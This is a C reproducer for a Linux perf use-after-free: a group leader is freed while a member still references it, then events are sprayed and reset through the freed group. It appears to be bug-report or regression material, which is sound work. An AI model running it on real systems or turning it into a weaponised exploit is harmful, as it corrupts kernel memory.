// SPDX-License-Identifier: GPL-2.0-only
/*
 * A group leader is freed while a member still points to it. As root, with software events
 * alone, on any machine with a second CPU that can go offline:
 *
 *	gcc -O2 leader.c && ./a.out 1
 *
 * The leader loses its CPU, and another event joins it when the CPU is back. Prints that
 * the member is refused (ENODEV); or that it was accepted, and then what the ioctl on its
 * group, which is freed memory, did to events that have nothing to do with it. A kernel
 * with KASAN reports a use after free in _perf_ioctl().
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define OTHERS	256

static int open_event(int cpu, int group)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_SOFTWARE, .config = PERF_COUNT_SW_CPU_CLOCK,
		.size = sizeof(attr),
	};

	return syscall(SYS_perf_event_open, &attr, -1, cpu, group, PERF_FLAG_FD_CLOEXEC);
}

static void set_online(int cpu, const char *value)
{
	char name[64];
	int fd;

	snprintf(name, sizeof(name), "/sys/devices/system/cpu/cpu%d/online", cpu);
	fd = open(name, O_WRONLY);
	if (fd < 0 || write(fd, value, 1) != 1) {
		perror(name);
		exit(2);
	}
	close(fd);
}

int main(int argc, char **argv)
{
	int cpu = argc > 1 ? atoi(argv[1]) : 1, others[OTHERS], leader, member, i, wrong = 0;
	unsigned long long before[OTHERS], after;

	leader = open_event(cpu, -1);
	set_online(cpu, "0");
	set_online(cpu, "1");
	member = open_event(cpu, leader);
	if (leader < 0 || member < 0) {
		printf("the member: %s\n", strerror(errno));
		return leader < 0 || errno != ENODEV;
	}
	printf("the member: accepted\n");
	close(leader);
	/* The leader is freed by RCU; other events take its place. */
	sleep(1);
	for (i = 0; i < OTHERS; i++) {
		others[i] = open_event(0, -1);
		usleep(1000);
	}
	for (i = 0; i < OTHERS; i++)
		if (read(others[i], &before[i], 8) != 8)
			before[i] = 0;
	ioctl(member, PERF_EVENT_IOC_RESET, PERF_IOC_FLAG_GROUP);
	for (i = 0; i < OTHERS; i++)
		wrong += read(others[i], &after, 8) == 8 && after < before[i];
	printf("of %d other events it has reset %d\n", OTHERS, wrong);
	return 1;
}
